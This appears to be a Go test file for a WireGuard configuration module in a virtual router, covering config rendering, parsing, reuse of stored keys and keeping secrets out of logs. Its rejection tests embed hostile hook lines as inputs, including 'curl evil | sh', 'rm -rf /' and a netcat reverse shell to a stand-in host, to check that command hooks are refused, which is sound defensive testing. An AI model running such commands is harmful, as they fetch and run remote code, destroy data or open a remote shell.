package wg

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/hypercx/vrouter/pkg/fsroot"
	"github.com/hypercx/vrouter/pkg/onegate"
)

var t0 = time.Unix(1_700_000_000, 0)

func mustSpec(t *testing.T, extra ...string) Spec {
	t.Helper()
	s, err := FromContext(env(guideEnv, extra...))
	must(t, err)
	return s
}

// fresh resolves spec with nothing stored and returns it as stored
// attributes of source at its timestamp.
func fresh(t *testing.T, spec Spec, keys *seqKeys, source string, at time.Time) (Resolved, Stored) {
	t.Helper()
	r, err := Resolve(spec, Choose(nil), keys, at)
	must(t, err)
	return r, Stored{Source: source, Attrs: r.Attrs}
}

func withAttrs(s Stored, kv ...string) Stored {
	a := map[string]string{}
	for k, v := range s.Attrs {
		a[k] = v
	}
	for _, p := range kv {
		k, v, _ := strings.Cut(p, "=")
		if v == "" {
			delete(a, k)
		} else {
			a[k] = v
		}
	}
	return Stored{Source: s.Source, Attrs: a}
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func TestServerAndClientConf(t *testing.T) {
	spec := mustSpec(t, "ONEAPP_VNF_WG_PEERS=2")
	r, _ := fresh(t, spec, &seqKeys{}, "VM 10", t0)
	c := r.Config
	srv := string(ServerConf(c))
	for _, want := range []string{"[Interface]\nAddress    = 169.254.33.1/24\nListenPort = 51820\nPrivateKey = " + c.Key.reveal() + "\n",
		"\n[Peer]\nPresharedKey = " + c.Peers[1].PSK.reveal() + "\nPublicKey    = " + c.Peers[1].Key.Public().String() + "\nAllowedIPs   = 169.254.33.3/32\n"} {
		if !strings.Contains(srv, want) {
			t.Errorf("server configuration lacks %q:\n%s", want, srv)
		}
	}
	cl := string(ClientConf(c, c.Peers[0], spec.EndpointAddr(), spec.Private))
	want := "[Interface]\nAddress    = 169.254.33.2/24\nPrivateKey = " + c.Peers[0].Key.reveal() + "\n\n[Peer]\nEndpoint     = 203.0.113.1:51820\n" +
		"PublicKey    = " + c.Key.Public().String() + "\nPresharedKey = " + c.Peers[0].PSK.reveal() + "\nAllowedIPs   = 10.0.0.0/24, 169.254.33.1/32\n"
	if cl != want {
		t.Errorf("client configuration (-want +got):\n%s", cmp.Diff(want, cl))
	}
	// What one-wg writes, it reads back.
	ps, err := parseServerConf([]byte(srv))
	must(t, err)
	if ps.Key != c.Key || ps.Port != 51820 || len(ps.Peers) != 2 || ps.Peers[1].Public != c.Peers[1].Key.Public() || ps.Peers[1].PSK != c.Peers[1].PSK {
		t.Errorf("parsed server configuration differs: %+v", ps)
	}
	pc, err := parseClientConf([]byte(cl))
	must(t, err)
	if pc.Key != c.Peers[0].Key || pc.Server != c.Key.Public() || pc.PSK != c.Peers[0].PSK {
		t.Error("parsed client configuration differs")
	}
	// The original's layout (stray blank lines, aligned '=') parses too.
	orig := strings.Replace(srv, "PrivateKey = "+c.Key.reveal()+"\n", "PrivateKey = "+c.Key.reveal()+"\n\n", 1) + "\n\n"
	if _, err := parseServerConf([]byte(orig)); err != nil {
		t.Errorf("the original's layout: %v", err)
	}
}

func TestParseServerConfRejects(t *testing.T) {
	k := (&seqKeys{}).next().String()
	base := "[Interface]\nAddress = 169.254.33.1/24\nListenPort = 51820\nPrivateKey = " + k + "\n"
	peer := func(addr string) string {
		return "[Peer]\nPublicKey = " + (&seqKeys{n: 7}).next().String() + "\nPresharedKey = " + k + "\nAllowedIPs = " + addr + "\n"
	}
	for _, tt := range []struct{ name, conf, msg string }{
		{"PostUp", base + "PostUp = curl evil | sh\n", "commands"},
		{"postdown lower case", base + "postdown=rm -rf /\n", "commands"},
		{"PreUp in a peer", base + peer("169.254.33.2/32") + "PreUp = id\n", "commands"},
		{"unknown key", base + "Table = off\n", "unexpected key"},
		{"SaveConfig", base + "SaveConfig = true\n", "unexpected key"},
		{"no interface", peer("169.254.33.2/32"), "no [Interface]"},
		{"bad key", strings.Replace(base, k, "notakey", 1), "PrivateKey"},
		{"bad port", strings.Replace(base, "51820", "99999", 1), "ListenPort"},
		{"network address", strings.Replace(base, "33.1/24", "33.0/24", 1), "host address"},
		{"peer outside", base + peer("10.0.0.5/32"), "AllowedIPs"},
		{"peer wider", base + peer("169.254.33.0/24"), "AllowedIPs"},
		{"peer repeated", base + peer("169.254.33.2/32") + peer("169.254.33.2/32"), "repeats"},
		{"garbage", "hello\n", "Key = Value"},
		{"unknown section", "[Wat]\n", "unknown section"},
	} {
		_, err := parseServerConf([]byte(tt.conf))
		if err == nil || !strings.Contains(err.Error(), tt.msg) {
			t.Errorf("%s: %v, want %q", tt.name, err, tt.msg)
		}
		if err != nil && strings.Contains(err.Error(), k) {
			t.Errorf("%s: the error shows a key: %v", tt.name, err)
		}
	}
}

// Choose takes the newest timestamp, whatever the order of the VMs (the
// original kept the last VM with a configuration).
func TestChooseNewest(t *testing.T) {
	spec := mustSpec(t)
	keys := &seqKeys{}
	_, old := fresh(t, spec, keys, "VM 10", t0)
	newer, mid := fresh(t, spec, keys, "VM 11", t0.Add(time.Hour))
	_, oldest := fresh(t, spec, keys, "VM 12", t0.Add(-time.Hour))
	for _, order := range [][]Stored{{old, mid, oldest}, {mid, old, oldest}, {oldest, old, mid}} {
		ch := Choose(order)
		if ch.From == nil || ch.From.Source != "VM 11" || ch.Timestamp != t0.Add(time.Hour).Unix() || ch.Server.Key != newer.Config.Key {
			t.Errorf("chose %+v", ch.From)
		}
	}
	// Timestamps compare as numbers, not text ("9" < "10").
	a := withAttrs(old, AttrTimestamp+"=9")
	b := withAttrs(mid, AttrTimestamp+"=10")
	if ch := Choose([]Stored{a, b}); ch.From.Source != "VM 11" {
		t.Errorf("9 vs 10: chose %s", ch.From.Source)
	}
	// A missing or broken timestamp is the oldest, with a warning.
	c := withAttrs(mid, AttrTimestamp+"=")
	d := withAttrs(oldest, AttrTimestamp+"=yesterday")
	ch := Choose([]Stored{c, d, old})
	if ch.From.Source != "VM 10" || len(ch.Warnings) != 2 {
		t.Errorf("without timestamps: chose %s, warnings %v", ch.From.Source, ch.Warnings)
	}
	// Only VMs without a configuration: nothing.
	if ch := Choose([]Stored{{Source: "VM 1", Attrs: map[string]string{}}, {Source: "VM 2", Attrs: map[string]string{AttrTimestamp: "5"}}}); ch.From != nil || ch.Rejected {
		t.Errorf("nothing stored: %+v", ch)
	}
	// Same timestamp on two VMs, one broken: the other is used.
	broken := withAttrs(mid, AttrServer+"="+b64("[Interface]\nPostUp = reboot\n"))
	broken.Source = "VM 10"
	if ch := Choose([]Stored{broken, mid}); ch.From == nil || ch.From.Source != "VM 11" || len(ch.Warnings) != 1 {
		t.Errorf("tie with a broken copy: %+v", ch)
	}
}

// A newest configuration that does not parse, or carries commands, gives a
// fresh configuration with a warning; the older one is not brought back.
func TestNewestUnusableIsFresh(t *testing.T) {
	spec := mustSpec(t)
	keys := &seqKeys{}
	_, old := fresh(t, spec, keys, "VM 10", t0)
	for name, server := range map[string]string{
		"commands":     b64(string(ServerConf(Config{Key: Secret{keys.next()}, Addr: spec.Server(), Port: 51820})) + "PostUp = nc -e /bin/sh evil 4444\n"),
		"not base64":   "!!!",
		"not a config": b64("hello"),
	} {
		bad := withAttrs(old, AttrServer+"="+server, AttrTimestamp+"="+strconv.FormatInt(t0.Unix()+5, 10))
		bad.Source = "VM 11"
		ch := Choose([]Stored{old, bad})
		if ch.From != nil || !ch.Rejected || len(ch.Warnings) != 1 || !strings.Contains(ch.Warnings[0], "VM 11") {
			t.Errorf("%s: %+v", name, ch)
		}
		r, err := Resolve(spec, ch, keys, t0.Add(time.Minute))
		must(t, err)
		if !r.Plan.Fresh || !strings.Contains(r.Plan.Reason, "not usable") || len(r.Plan.Warnings) != 1 {
			t.Errorf("%s: plan %+v", name, r.Plan)
		}
		if r.Plan.Timestamp != t0.Unix()+60 {
			t.Errorf("%s: timestamp %d", name, r.Plan.Timestamp)
		}
		if name == "commands" && strings.Contains(string(ServerConf(r.Config)), "PostUp") {
			t.Error("the command was carried over")
		}
	}
	// An unusable one from the future (a VM OneGate cannot write keeps
	// it): the fresh configuration is still the newest, so the next start
	// reuses it instead of making new keys again.
	future := withAttrs(old, AttrServer+"=!!!", AttrTimestamp+"="+strconv.FormatInt(t0.Unix()+3600, 10))
	future.Source = "VM 11"
	r, err := Resolve(spec, Choose([]Stored{old, future}), keys, t0.Add(time.Minute))
	must(t, err)
	if r.Plan.Timestamp != t0.Unix()+3601 {
		t.Errorf("fresh over a future unusable one: timestamp %d", r.Plan.Timestamp)
	}
	next := Choose([]Stored{old, future, {Source: "the local copy", Attrs: r.Attrs}})
	if next.From == nil || next.From.Source != "the local copy" {
		t.Errorf("the next start chose %+v", next.From)
	}
}

func TestResolveReuse(t *testing.T) {
	spec := mustSpec(t)
	keys := &seqKeys{}
	first, stored := fresh(t, spec, keys, "VM 10", t0)
	if !first.Plan.Fresh || first.Plan.Reason != "no configuration is stored" || !first.Config.New {
		t.Fatalf("first plan %+v", first.Plan)
	}
	// The same context again: same keys, nothing to publish, same timestamp.
	again, err := Resolve(spec, Choose([]Stored{stored}), keys, t0.Add(time.Hour))
	must(t, err)
	if again.Plan.Fresh || again.Plan.Changed || again.Plan.NewKeys() || again.Plan.Timestamp != t0.Unix() || again.Plan.Reused != "VM 10" {
		t.Errorf("plan %+v", again.Plan)
	}
	if d := cmp.Diff(first.Attrs, again.Attrs); d != "" {
		t.Errorf("attributes changed (-first +again):\n%s", d)
	}
	// Another endpoint and private network: keys kept, peers' configurations
	// rendered again, a newer timestamp.
	moved := mustSpec(t, "ETH0_VROUTER_IP=203.0.113.9", "ETH1_MASK=255.255.0.0")
	r, err := Resolve(moved, Choose([]Stored{stored}), keys, t0.Add(time.Hour))
	must(t, err)
	if r.Plan.NewKeys() || !r.Plan.Changed || r.Plan.Timestamp != t0.Add(time.Hour).Unix() || r.Config.Key != first.Config.Key {
		t.Errorf("moved: plan %+v", r.Plan)
	}
	cl, _ := base64.StdEncoding.DecodeString(r.Attrs[AttrPeer+"0"])
	if !strings.Contains(string(cl), "Endpoint     = 203.0.113.9:51820") || !strings.Contains(string(cl), "AllowedIPs   = 10.0.0.0/16, 169.254.33.1/32") {
		t.Errorf("peer 0 not rendered again:\n%s", cl)
	}
	// A clock behind the stored timestamp still makes the result newer.
	r, err = Resolve(moved, Choose([]Stored{stored}), keys, t0.Add(-time.Hour))
	must(t, err)
	if r.Plan.Timestamp != t0.Unix()+1 {
		t.Errorf("clock behind: timestamp %d", r.Plan.Timestamp)
	}
}

func TestResolveChanges(t *testing.T) {
	spec := mustSpec(t)
	keys := &seqKeys{}
	first, stored := fresh(t, spec, keys, "VM 10", t0)
	for _, tt := range []struct {
		name      string
		extra     []string
		fresh     string
		newPeers  []int
		dropped   []int
		keptPeers int
	}{
		{"port", []string{"ONEAPP_VNF_WG_LISTEN_PORT=51821"}, VarListenPort + " changed", nil, nil, 0},
		{"subnet", []string{"ONEAPP_VNF_WG_SUBNET=169.254.34.0/24"}, VarSubnet + " changed", nil, nil, 0},
		{"subnet length", []string{"ONEAPP_VNF_WG_SUBNET=169.254.33.0/25"}, VarSubnet + " changed", nil, nil, 0},
		{"more peers", []string{"ONEAPP_VNF_WG_PEERS=7"}, "", []int{5, 6}, nil, 5},
		{"fewer peers", []string{"ONEAPP_VNF_WG_PEERS=3"}, "", nil, []int{3, 4}, 3},
	} {
		t.Run(tt.name, func(t *testing.T) {
			s := mustSpec(t, tt.extra...)
			r, err := Resolve(s, Choose([]Stored{stored}), keys, t0.Add(time.Minute))
			must(t, err)
			p := r.Plan
			if tt.fresh != "" {
				if !p.Fresh || !strings.Contains(p.Reason, tt.fresh) || r.Config.Key == first.Config.Key {
					t.Errorf("plan %+v", p)
				}
				for _, x := range r.Config.Peers {
					for _, y := range first.Config.Peers {
						if x.Key == y.Key || x.PSK == y.PSK {
							t.Errorf("peer %d kept a key", x.Index)
						}
					}
				}
				return
			}
			if p.Fresh || r.Config.Key != first.Config.Key || !p.Changed {
				t.Errorf("plan %+v", p)
			}
			if d := cmp.Diff(tt.newPeers, p.NewPeers); d != "" {
				t.Errorf("new peers: %s", d)
			}
			if d := cmp.Diff(tt.dropped, p.Dropped); d != "" {
				t.Errorf("dropped: %s", d)
			}
			for i := 0; i < tt.keptPeers; i++ {
				if r.Config.Peers[i].Key != first.Config.Peers[i].Key || r.Config.Peers[i].PSK != first.Config.Peers[i].PSK || r.Config.Peers[i].New {
					t.Errorf("peer %d lost its keys", i)
				}
			}
			if len(r.Config.Peers) != s.Peers {
				t.Errorf("%d peers", len(r.Config.Peers))
			}
			if _, ok := r.Attrs[AttrPeer+"4"]; ok != (s.Peers > 4) {
				t.Errorf("PEER4 published: %v", ok)
			}
		})
	}
}

// A peer whose stored configuration is missing, broken or does not match
// the server gets new keys; the others keep theirs.
func TestResolvePeerMismatch(t *testing.T) {
	spec := mustSpec(t)
	keys := &seqKeys{}
	first, stored := fresh(t, spec, keys, "VM 10", t0)
	other, _ := fresh(t, spec, &seqKeys{n: 500}, "x", t0)
	for name, kv := range map[string]string{
		"missing":      AttrPeer + "2=",
		"not base64":   AttrPeer + "2=%%%",
		"commands":     AttrPeer + "2=" + b64("[Interface]\nPostUp = id\n"),
		"another keys": AttrPeer + "2=" + other.Attrs[AttrPeer+"2"],
	} {
		r, err := Resolve(spec, Choose([]Stored{withAttrs(stored, kv)}), keys, t0.Add(time.Minute))
		must(t, err)
		if d := cmp.Diff([]int{2}, r.Plan.NewPeers); d != "" || len(r.Plan.Warnings) != 1 || !strings.Contains(r.Plan.Warnings[0], "peer 2") {
			t.Errorf("%s: %+v", name, r.Plan)
		}
		for _, i := range []int{0, 1, 3, 4} {
			if r.Config.Peers[i].Key != first.Config.Peers[i].Key {
				t.Errorf("%s: peer %d lost its keys", name, i)
			}
		}
		if r.Config.Peers[2].Key == first.Config.Peers[2].Key {
			t.Errorf("%s: peer 2 kept its keys", name)
		}
	}
}

// Key material never shows through fmt, slog or JSON.
func TestSecretsNeverShow(t *testing.T) {
	spec := mustSpec(t)
	r, _ := fresh(t, spec, &seqKeys{}, "VM 10", t0)
	var logs bytes.Buffer
	log := slog.New(slog.NewTextHandler(&logs, nil))
	log.Info("x", "config", r.Config, "key", r.Config.Key, "peer", r.Config.Peers[0])
	j, _ := json.Marshal(r.Config)
	out := fmt.Sprintf("%v %+v %#v %s %s", r.Config, r.Config, r.Config.Peers[0], r.Config.Key, j) + logs.String()
	for _, s := range []Secret{r.Config.Key, r.Config.Peers[0].Key, r.Config.Peers[0].PSK} {
		if strings.Contains(out, s.reveal()) {
			t.Fatalf("a key shows:\n%s", out)
		}
	}
	var art bytes.Buffer
	for _, a := range Artefacts(spec, r) {
		art.Write(a.Body)
	}
	for _, p := range r.Config.Peers {
		if strings.Contains(art.String(), p.Key.reveal()) || strings.Contains(art.String(), p.PSK.reveal()) {
			t.Fatal("render shows a key")
		}
	}
}

func TestLocalCopy(t *testing.T) {
	root := fsroot.Root(t.TempDir())
	if s, err := ReadLocal(root); s != nil || err != nil {
		t.Fatalf("missing copy: %v %v", s, err)
	}
	r, _ := fresh(t, mustSpec(t), &seqKeys{}, "x", t0)
	changed, err := WriteLocal(root, r.Attrs)
	if err != nil || !changed {
		t.Fatal(changed, err)
	}
	if changed, _ := WriteLocal(root, r.Attrs); changed {
		t.Error("rewritten unchanged")
	}
	st, err := os.Stat(root.Path(StateFile))
	must(t, err)
	dir, err := os.Stat(filepath.Dir(root.Path(StateFile)))
	must(t, err)
	if st.Mode().Perm() != 0o600 || dir.Mode().Perm() != 0o700 {
		t.Errorf("modes %v %v", st.Mode(), dir.Mode())
	}
	s, err := ReadLocal(root)
	must(t, err)
	if d := cmp.Diff(r.Attrs, s.Attrs); d != "" {
		t.Errorf("read back (-want +got):\n%s", d)
	}
}

// The largest configuration still fits OneGate's attributes.
func TestMaxPeersFitOneGate(t *testing.T) {
	spec := mustSpec(t, "ONEAPP_VNF_WG_PEERS="+strconv.Itoa(MaxPeers))
	r, _ := fresh(t, spec, &seqKeys{}, "x", t0)
	if len(r.Attrs) != MaxPeers+2 {
		t.Fatalf("%d attributes", len(r.Attrs))
	}
	for k, v := range r.Attrs {
		if err := onegate.CheckAttribute(k, v); err != nil {
			t.Errorf("%v", err)
		}
	}
}
